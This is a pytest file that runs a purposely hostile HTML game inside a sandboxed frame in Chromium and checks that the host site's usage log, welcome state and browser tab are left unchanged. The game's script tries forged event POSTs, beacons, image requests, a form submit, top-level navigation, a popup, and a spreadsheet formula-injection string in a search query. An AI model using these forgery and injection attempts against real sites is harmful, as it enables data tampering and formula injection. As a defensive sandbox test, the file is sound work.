"""A hostile game in a real Chromium: whatever its script tries, the site, the usage and the tab
stay as they were."""

import sqlite3
import time

import pytest

from content_mirror.authoring import read_source
from server.importer import install
from tests.helpers import PHONE, game_zip

# Each side effect a game might try, run in order; what the browser said is kept in the page.
HOSTILE = b"""<!doctype html><title>game</title><pre id=log></pre><script>
const log = (line) => { document.getElementById('log').textContent += line + '\\n'; };
const attempt = (name, run) => Promise.resolve().then(run).then(() => log(name + ' sent'), (e) => log(name + ' refused'));
const picture = (url) => new Promise((done) => { const i = new Image(); i.onload = i.onerror = done; i.src = url; });
(async () => {
  await attempt('fetch item', () => fetch('/item/tip-sleep', {mode: 'no-cors'}));
  await attempt('fetch events', () => fetch('/api/events', {method: 'POST', mode: 'no-cors',
      headers: {'Content-Type': 'text/plain'}, body: JSON.stringify({events: [{type: 'finished', item: 'tip-sleep'}]})}));
  await attempt('beacon', () => navigator.sendBeacon('/api/events', '{"events": [{"type": "finished", "item": "book-cat"}]}'));
  await attempt('img item', () => picture('/item/act-shapes'));
  await attempt('img search', () => picture('/api/search?q=' + encodeURIComponent('=HYPERLINK("http://x/"&A2,"x")')));
  await attempt('img search page', () => picture('/search?q=zzzz'));
  await attempt('img welcome', () => picture('/welcome/enter'));
  await attempt('form', () => { const f = document.createElement('form'); f.method = 'post'; f.action = '/api/events';
      document.body.appendChild(f); f.submit(); });
  await attempt('top', () => { top.location = 'http://example.invalid/'; });
  await attempt('popup', () => { if (!window.open('http://example.invalid/')) throw new Error('no'); });
  log('done');
  // Last, its own frame: this navigation reaches the box, which must not count it.
  setTimeout(() => { location = '/item/doc-plan?from=game'; }, 100);
})();
</script>"""


@pytest.fixture
def hostile(library, source, serve):
    (source / "media" / "game.zip").write_bytes(game_zip({"index.html": HOSTILE}))
    src = read_source(source)
    install(library, src.manifest, src.open)
    return serve(library)


def events(library):
    conn = sqlite3.connect(library.data_dir / "usage.db")
    try:
        return [tuple(r) for r in conn.execute("SELECT type, item, text FROM events ORDER BY rowid")]
    finally:
        conn.close()


def test_a_hostile_game_changes_nothing_on_the_site(hostile, library, browser):
    context = browser.new_context(viewport=PHONE, is_mobile=True, has_touch=True, locale="ru-RU")
    try:
        page = context.new_page()
        said = []  # what Chromium refused, for the message of a failing assertion
        page.on("console", lambda message: said.append(message.text))
        page.goto(hostile.url + "/item/game-count")
        # The game's last step navigates its own frame, after logging "done".
        deadline = time.monotonic() + 30
        while not any("from=game" in frame.url for frame in page.frames):
            assert time.monotonic() < deadline, said
            page.wait_for_timeout(50)
        assert page.url == hostile.url + "/item/game-count" and len(context.pages) == 1, said
        time.sleep(0.5)  # the writer flushes every 0.05 s here: let any event land
        assert events(library) == [("opened", "game-count", None)], said  # the person's one view
        assert not hostile.app.extensions["sanduq"].portal.welcomed("127.0.0.1")
    finally:
        context.close()


def test_a_game_opened_as_a_page_of_its_own_leads_to_its_item_page(hostile, library, browser):
    _, item = hostile.json("/api/items/game-count")
    context = browser.new_context(viewport=PHONE)
    try:
        page = context.new_page()
        page.goto(hostile.url + f"/play/{item['files'][0]['sha256']}/index.html")
        assert page.url == hostile.url + "/item/game-count"  # where its sandboxed frame is
    finally:
        context.close()
